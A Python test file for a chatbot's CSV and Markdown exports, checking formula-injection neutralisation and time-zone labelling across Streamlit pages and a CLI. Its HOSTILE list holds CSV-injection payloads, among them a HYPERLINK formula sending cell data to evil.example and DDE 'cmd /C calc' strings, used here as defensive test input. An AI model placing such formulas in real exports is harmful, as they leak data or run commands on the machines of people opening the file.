"""CSV exports a spreadsheet reads as data, and times shown in the reader's zone or labelled UTC.

The pages run through AppTest on a real embedded Redis, with the browser's time zone given as
Streamlit receives it (`AppTest.context`); the downloads are read back from Streamlit's own media
storage and parsed with the csv module, as a spreadsheet would split them.
"""

from __future__ import annotations

import csv
import os
import io
import time
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.testing.v1 import AppTest

from chatbot.store.messages import Message
from chatbot.store import analytics, csv_export
from chatbot.store.conversations import ConversationStore
from chatbot.store.server import connect
from common.timezones import UTC, browser_zone, named_zone
from tests.conftest import app_environment

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click for your refund")', "+1+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
SAFE = ["How do I get a refund?", "a=b is fine", "E-102 on the doorbell"]
# 2024-12-05 23:30 UTC: already 6 December in Tokyo and still 5 December in New York.
LATE = datetime(2024, 12, 5, 23, 30, tzinfo=ZoneInfo("UTC")).timestamp()


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def conversation() -> dict:
    messages = []
    for n, content in enumerate(HOSTILE + SAFE):
        messages.append({"role": "user", "content": content, "ts": LATE + 60 * n})
        messages.append({"role": "assistant", "content": "Here is how [1].", "ts": LATE + 60 * n + 5,
                         "meta": {"backend": "offline", "model": "=model", "latency_ms": 80.0,
                                  "route": {"intent": "refunds"},
                                  "triage": {"sentiment": "negative", "sentiment_score": -0.4}},
                         "feedback": {"score": 0, "comment": "-1 not helpful"}})
    return {"id": "c1", "created": LATE, "updated": LATE + 3600, "messages": [Message.from_stored(m) for m in messages]}


def test_every_formula_cell_of_a_conversation_export_is_neutralised():
    table = rows(csv_export.conversation_csv(conversation()))
    header, body = table[0], table[1:]
    texts = [r[header.index("text")] for r in body if r[header.index("speaker")] == "Customer"]
    assert texts == ["'" + t for t in HOSTILE] + SAFE, "hostile text quoted, plain text as typed"
    for row in body:
        for cell in row:
            assert not cell.startswith(csv_export.FORMULA_STARTS), (cell, row)
    comments = {r[header.index("comment")] for r in body if r[header.index("comment")]}
    assert comments == {"'-1 not helpful"} and {r[header.index("model")] for r in body} - {""} == {"'=model"}


def test_the_list_and_turn_exports_neutralise_titles_and_comments_but_keep_numbers():
    summary = analytics.ConversationSummary(id="c1", created=LATE, updated=LATE, title=HOSTILE[0], turns=1,
                                            agents=["@ana"])
    listed = rows(csv_export.conversations_csv([summary]))
    assert listed[1][listed[0].index("title")] == "'" + HOSTILE[0]
    assert listed[1][listed[0].index("agents")] == "'@ana"
    turns = rows(csv_export.turns_csv([conversation()]))
    header = turns[0]
    assert {r[header.index("comment")] for r in turns[1:]} == {"'-1 not helpful"}
    # A score we computed stays a number a spreadsheet can sum.
    assert {float(r[header.index("sentiment_score")]) for r in turns[1:]} == {-0.4}


def test_times_follow_the_named_zone_and_are_labelled():
    tokyo, new_york = browser_zone("Asia/Tokyo", -540), browser_zone("America/New_York", 300)
    assert tokyo.label == "Asia/Tokyo" and tokyo.format(LATE) == "2024-12-06 08:30"
    assert new_york.format(LATE) == "2024-12-05 18:30" and tokyo.day(LATE) == "2024-12-06"
    summer = datetime(2024, 7, 1, 12, 0, tzinfo=ZoneInfo("UTC")).timestamp()
    assert new_york.format(summer) == "2024-07-01 08:00", "the named zone follows daylight saving"
    # Only an offset (JavaScript's sign: minutes behind UTC), then nothing at all.
    assert browser_zone(None, -330).label == "UTC+05:30" and browser_zone(None, -330).format(LATE) == "2024-12-06 05:00"
    assert browser_zone("Not/AZone", 300).label == "UTC-05:00"
    assert browser_zone(None, None) is UTC and UTC.labelled(LATE) == "2024-12-05 23:30 UTC"
    assert named_zone("Europe/Nowhere") is None


def test_exports_and_stats_count_days_in_the_readers_zone():
    tokyo = browser_zone("Asia/Tokyo", -540)
    markdown = analytics.to_markdown(conversation(), tokyo)
    assert "- Started: 2024-12-06 08:30:00 Asia/Tokyo" in markdown
    assert "- Started: 2024-12-05 23:30:00 UTC" in analytics.to_markdown(conversation())
    exported = rows(csv_export.conversation_csv(conversation(), tokyo))
    assert exported[0][:2] == ["time (Asia/Tokyo)", "time (UTC, ISO 8601)"]
    assert exported[1][:2] == ["2024-12-06 08:30:00", "2024-12-05T23:30:00+00:00"]
    assert [d["day"] for d in analytics.overview([conversation()], zone=tokyo)["volume"]] == ["2024-12-06"]
    assert [d["day"] for d in analytics.overview([conversation()])["volume"]] == ["2024-12-05"]


def test_the_tables_own_csv_download_is_off():
    import tomllib

    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True, "st.dataframe's download writes formulas as they are"


# -- the pages ---------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def app_env(tmp_path_factory):
    """One conversation, its first message a formula, stored late on a UTC evening (yesterday)."""
    data = tmp_path_factory.mktemp("exports-data")
    (data / "knowledge").mkdir()
    (data / "knowledge" / ".demo-seeded").write_text("seeded\n")
    with app_environment(data, CHATBOT_ADMIN_PASSWORD="pw"):
        store = ConversationStore(connect(data_dir=data / "redis"), clock=lambda: STORED)
        store.append("csv1", [{"role": "user", "content": HOSTILE[0]},
                              {"role": "assistant", "content": "Refunds take 5 days [1].",
                               "meta": {"backend": "offline", "model": "knowledge-base", "latency_ms": 90.0,
                                        "route": {"intent": "refunds"},
                                        "triage": {"sentiment": "negative", "sentiment_score": -0.2}}}])
        yield data
        store.client.shutdown(nosave=True)


STORED = time.time() - 3600


@pytest.fixture
def downloads(monkeypatch):
    """What each download button carries, by file name, recorded as Streamlit stores it."""
    seen: dict[str, bytes] = {}
    original = MemoryMediaFileStorage.load_and_get_id

    def record(self, path_or_data, mimetype, kind, filename=None):
        if filename:
            seen[filename] = path_or_data if isinstance(path_or_data, bytes) else str(path_or_data).encode()
        return original(self, path_or_data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", record)
    return seen


def page(path: str, context: dict | None = None, admin: bool = False) -> AppTest:
    at = AppTest.from_file(str(ROOT / path), default_timeout=120)
    at.context = context or {}
    if admin:
        at.session_state["admin_since"] = time.time()
    return at.run()


def test_history_shows_times_in_the_browsers_zone_and_exports_safe_csv(app_env, downloads):
    at = page("views/history.py", {"timezone": "Asia/Tokyo", "timezone_offset": -540}, admin=True)
    assert not at.exception
    table = at.dataframe[0].value
    expected = datetime.fromtimestamp(STORED, ZoneInfo("Asia/Tokyo")).strftime("%Y-%m-%d %H:%M")
    assert list(table["last active (Asia/Tokyo)"]) == [expected]
    assert any("Times in Asia/Tokyo" in c.value for c in at.caption)
    listed = rows(downloads["conversations.csv"].decode())
    assert listed[1][listed[0].index("title")] == "'" + HOSTILE[0]
    messages = rows(downloads["conversation-csv1.csv"].decode())
    assert messages[1][messages[0].index("text")] == "'" + HOSTILE[0]
    assert messages[1][0] == expected + datetime.fromtimestamp(STORED).strftime(":%S")
    assert "Asia/Tokyo" in downloads["conversation-csv1.md"].decode()


def test_history_without_a_browser_zone_says_utc(app_env):
    at = page("views/history.py")
    expected = datetime.fromtimestamp(STORED, ZoneInfo("UTC")).strftime("%Y-%m-%d %H:%M")
    assert list(at.dataframe[0].value["last active (UTC)"]) == [expected]
    assert any("Times in UTC" in c.value for c in at.caption)


def test_stats_counts_days_in_the_browsers_zone_and_exports_safe_csv(app_env, downloads):
    at = page("views/stats.py", {"timezone": "Pacific/Kiritimati", "timezone_offset": -840}, admin=True)
    assert not at.exception
    assert any("Times in Pacific/Kiritimati" in c.value for c in at.caption)
    turns = rows(downloads["turns.csv"].decode())
    day = datetime.fromtimestamp(STORED, ZoneInfo("Pacific/Kiritimati")).date().isoformat()
    assert turns[1][turns[0].index("day (Pacific/Kiritimati)")] == day
    spec = " ".join(c.proto.spec for c in at.get("vega_lite_chart"))
    assert "day (Pacific/Kiritimati)" in spec, "the volume chart names the zone of its days"


def test_an_agent_gets_no_csv_but_sees_the_button_disabled(app_env, downloads):
    at = page("views/stats.py", {"timezone": "Europe/Berlin", "timezone_offset": -60})
    assert at.button(key="stats_export_csv").disabled and "turns.csv" not in downloads
    at = page("views/history.py", {"timezone": "Europe/Berlin", "timezone_offset": -60})
    assert at.button(key="history_export_csv").disabled and at.button(key="history_export_list_csv").disabled
    assert not downloads


def test_the_command_line_exports_safe_csv_in_the_zone_asked(tmp_path):
    from tests.test_conversations_cli import cli

    (tmp_path / "knowledge").mkdir()
    (tmp_path / "knowledge" / ".demo-seeded").write_text("seeded\n")
    client = connect(data_dir=tmp_path / "redis")
    try:
        ConversationStore(client, clock=lambda: LATE).append("x1", [{"role": "user", "content": HOSTILE[2]}])
        env = {**os.environ, "CHATBOT_DATA_DIR": str(tmp_path), "CHATBOT_BACKEND": "offline"}
        target = tmp_path / "x1.csv"
        cli(env, "conversations", "export", "x1", "--format", "csv", "--timezone", "Asia/Tokyo", "-o", str(target))
        exported = rows(target.read_text(encoding="utf-8"))
        assert exported[0][0] == "time (Asia/Tokyo)" and exported[1][0] == "2024-12-06 08:30:00"
        assert exported[1][exported[0].index("text")] == "'" + HOSTILE[2]
        refused = cli(env, "conversations", "export", "x1", "--format", "csv", "--timezone", "Mars/Olympus",
                      check=False)
        assert refused.returncode == 2 and "unknown time zone 'Mars/Olympus'" in refused.stderr
    finally:
        client.shutdown(nosave=True)
